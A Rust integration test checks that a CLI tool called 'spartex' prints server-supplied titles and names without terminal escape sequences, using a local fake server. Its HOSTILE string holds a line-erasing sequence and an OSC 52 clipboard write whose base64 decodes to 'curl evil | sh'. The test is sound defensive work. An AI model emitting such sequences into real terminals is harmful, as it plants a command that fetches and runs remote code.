//! What agents and servers write reaches the terminal as text, never as commands to it: a
//! title, a name or a chat line holding `\r` or an escape sequence (erase the line, move the
//! cursor, OSC 52 to set the clipboard) is printed without them.
//!
//! The server here is a few lines over a TCP socket (this package has no HTTP server to
//! borrow): it signs anyone in, with names that hold escape sequences, and its log has one
//! approval whose title holds them too.

use std::path::PathBuf;
use std::process::Output;

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Erases the line, returns to its start, sets the clipboard, and shows a title that says
/// nothing of it.
const HOSTILE: &str = "Pause the spring ads\x1b[2K\r\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u{9b}1A";

fn approval() -> Value {
    let now = chrono::Utc::now();
    json!({"id": "apr_1", "project_id": "prj_1", "agent_id": "agt_1", "task_id": null,
        "kind": "publish_ad", "title": HOSTILE, "summary": HOSTILE, "payload": {},
        "preview": null, "risk": "high", "status": "pending",
        "created_at": now, "expires_at": now + chrono::Duration::minutes(10),
        "on_expiry": "reject", "decided_by": null, "decided_at": null, "comment": null,
        "version": 1})
}

fn answer_to(method: &str, path: &str) -> (u16, Value) {
    match (method, path.split('?').next().unwrap_or_default()) {
        ("POST", "/api/v1/auth/login") => (
            200,
            json!({"access_token": "a", "refresh_token": "srt_x", "expires_in": 900,
                "user": {"id": "usr_1", "email": "dana@evil.test", "name": HOSTILE, "role": "oncall"},
                "tenant": {"id": "ten_1", "name": HOSTILE, "slug": "evil"}}),
        ),
        ("GET", "/api/v1/sync") if path.contains("since=0") => (
            200,
            json!({"events": [{"seq": 1, "type": "approval.upserted", "at": chrono::Utc::now(),
                "project_id": "prj_1", "data": approval()}], "head": 1, "resync_required": false}),
        ),
        ("GET", "/api/v1/sync") => (
            200,
            json!({"events": [], "head": 1, "resync_required": false}),
        ),
        _ => (
            404,
            json!({"error": {"code": "not_found", "message": HOSTILE, "details": {}}}),
        ),
    }
}

/// Answers one request on `stream`, then closes it.
async fn serve_one(mut stream: TcpStream) {
    let mut read = Vec::new();
    let head_end = loop {
        let mut chunk = [0; 4096];
        let Ok(n) = stream.read(&mut chunk).await else {
            return;
        };
        if n == 0 {
            return;
        }
        read.extend_from_slice(&chunk[..n]);
        if let Some(end) = read.windows(4).position(|w| w == b"\r\n\r\n") {
            break end + 4;
        }
    };
    let head = String::from_utf8_lossy(&read[..head_end]).into_owned();
    let length: usize = head
        .lines()
        .find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse().ok())?
        })
        .unwrap_or(0);
    while read.len() < head_end + length {
        let mut chunk = [0; 4096];
        match stream.read(&mut chunk).await {
            Ok(0) | Err(_) => return,
            Ok(n) => read.extend_from_slice(&chunk[..n]),
        }
    }
    let mut request_line = head.lines().next().unwrap_or_default().split(' ');
    let (method, path) = (
        request_line.next().unwrap_or_default(),
        request_line.next().unwrap_or_default(),
    );
    let (status, body) = answer_to(method, path);
    let body = body.to_string();
    let response = format!(
        "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = stream.write_all(response.as_bytes()).await;
    let _ = stream.shutdown().await;
}

async fn hostile_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let url = format!("http://{}", listener.local_addr().expect("its address"));
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(serve_one(stream));
        }
    });
    url
}

struct Home(PathBuf);

impl Drop for Home {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

async fn spartex(home: &Home, args: &[&str]) -> Output {
    tokio::process::Command::new(env!("CARGO_BIN_EXE_spartex"))
        .args(args)
        .env("SPARTEX_HOME", &home.0)
        .env("SPARTEX_PASSWORD", "pw")
        .env("SPARTEX_INSECURE_FILE_SECRETS", "1")
        .env("SPARTEX_LOG", "error")
        .env_remove("SPARTEX_ACCOUNT")
        .env_remove("SPARTEX_SERVER")
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true)
        .output()
        .await
        .expect("the spartex binary runs")
}

/// Fails unless `output` succeeded and holds no byte a terminal would obey.
#[track_caller]
fn plain(args: &str, output: &Output) -> String {
    let (stdout, stderr) = (
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr),
    );
    assert!(
        output.status.success(),
        "`spartex {args}` failed ({})\n--- stdout\n{stdout}--- stderr\n{stderr}",
        output.status
    );
    for (stream, text) in [("stdout", &stdout), ("stderr", &stderr)] {
        for refused in ['\x1b', '\r', '\x07', '\u{9b}'] {
            assert!(
                !text.contains(refused),
                "`spartex {args}` wrote {refused:?} to {stream}:\n{text:?}"
            );
        }
    }
    stdout.into_owned()
}

#[tokio::test]
async fn titles_and_names_holding_escape_sequences_reach_the_terminal_as_text() {
    let url = hostile_server().await;
    let home = Home(std::env::temp_dir().join(format!(
        "spartex-terminal-text-{}-{}",
        std::process::id(),
        chrono::Utc::now().timestamp_nanos_opt().unwrap_or_default()
    )));

    let login = ["login", "--server", &url, "--email", "dana@evil.test"];
    let signed_in = plain("login", &spartex(&home, &login).await);
    assert!(
        signed_in.contains("Signed in to Pause the spring ads"),
        "{signed_in}"
    );

    let listed = plain(
        "approvals",
        &spartex(&home, &["approvals", "--offline"]).await,
    );
    assert!(listed.contains("Pause the spring ads"), "{listed}");
    assert!(
        listed.contains("52;c;Y3VybCBldmlsIHwgc2g="),
        "shown as text, not obeyed: {listed}"
    );

    let json = ["approvals", "--offline", "--json"];
    let listed = plain("approvals --json", &spartex(&home, &json).await);
    let listed: Value = serde_json::from_str(&listed).expect("JSON");
    assert!(
        listed.to_string().contains(&json!(HOSTILE).to_string()),
        "the JSON keeps the data as it is, escaped: {listed}"
    );
}
